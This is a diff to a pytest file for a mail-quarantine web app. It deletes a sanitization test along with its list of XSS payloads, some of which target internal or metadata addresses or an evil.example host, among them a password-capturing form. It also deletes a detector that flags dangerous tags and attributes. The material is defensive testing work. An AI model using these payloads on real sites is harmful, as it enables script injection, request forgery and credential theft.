@@ -3,7 +3,6 @@
 import re
 from collections.abc import Callable
 from datetime import timedelta
-from html.parser import HTMLParser
 from typing import Any
 
 import pytest
@@ -324,82 +323,6 @@ def test_quarantine_shows_the_beginning_as_text_and_lets_it_be_read_again(
 
 
 # What a stranger wrote
-
-
-HARMFUL = {
-    "script",
-    "form",
-    "iframe",
-    "object",
-    "embed",
-    "base",
-    "link",
-    "meta",
-    "svg",
-    "math",
-    "input",
-    "style",
-}
-
-
-class Looker(HTMLParser):
-    """What a browser would make of a page, as far as it could do harm."""
-
-    def __init__(self) -> None:
-        super().__init__()
-        self.harm: list[str] = []
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        if tag in HARMFUL:
-            self.harm.append(tag)
-        for name, value in attrs:
-            if name.startswith("on") or name in {"style", "srcset", "background", "formaction"}:
-                self.harm.append(f"{tag} {name}")
-            if name in {"href", "src"} and not re.match(r"(https?:|mailto:|cid:)", value or ""):
-                self.harm.append(f"{tag} {name}={value}")
-
-
-NASTY = [
-    "<script>alert(1)</script>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    '<img src=x onerror="alert(1)">',
-    '<img src="http://127.0.0.1:9/pixel.gif">',
-    '<img src="http://169.254.169.254/latest" srcset="http://[::1]/x 2x">',
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href=" &#106;avascript:alert(1)">x</a>',
-    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
-    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
-    '<base href="http://evil.example/">',
-    '<form action="http://evil.example"><input name=password><button>Go</button></form>',
-    '<iframe src="http://evil.example"></iframe>',
-    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-    "<style>@import url(http://evil.example/x.css)</style>",
-    '<div style="background:url(http://evil.example/x)">x</div>',
-    '<table background="http://evil.example/x"><tr><td>x</td></tr></table>',
-    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
-    '<link rel="stylesheet" href="http://evil.example/x.css">',
-    '<object data="x.swf"></object><embed src="x">',
-    "<!--><img src=x onerror=alert(1)>-->",
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "</body></html><script>alert(1)</script>",
-    "<p>" * 500 + "deep",
-]
-
-
-@pytest.mark.parametrize("html", NASTY, ids=range(len(NASTY)))
-def test_sec_01_nothing_in_a_mail_runs_loads_or_submits(client: Client, html: str) -> None:
-    mail = html_mail(f"<p>Hello</p>{html}")
-    assert mail.fate == Fate.HELD
-    client.force_login(administrator())
-    frame = client.get(f"{page(mail)[:-7]}html/")
-    looker = Looker()
-    looker.feed(frame.content.decode().partition("<body>")[2])
-    assert looker.harm == []
-    for address in (page(mail), LIST, f"{LIST}?tab=all"):
-        text = client.get(address).content.decode()
-        assert "alert(1)" not in re.sub(r"&[a-z#0-9]+;", "", text) or "<script>alert" not in text
-        assert "<b>Hi</b>" not in text
 
 
 def test_sec_38_sec_39_the_frame_may_load_nothing_and_run_nothing(client: Client) -> None:
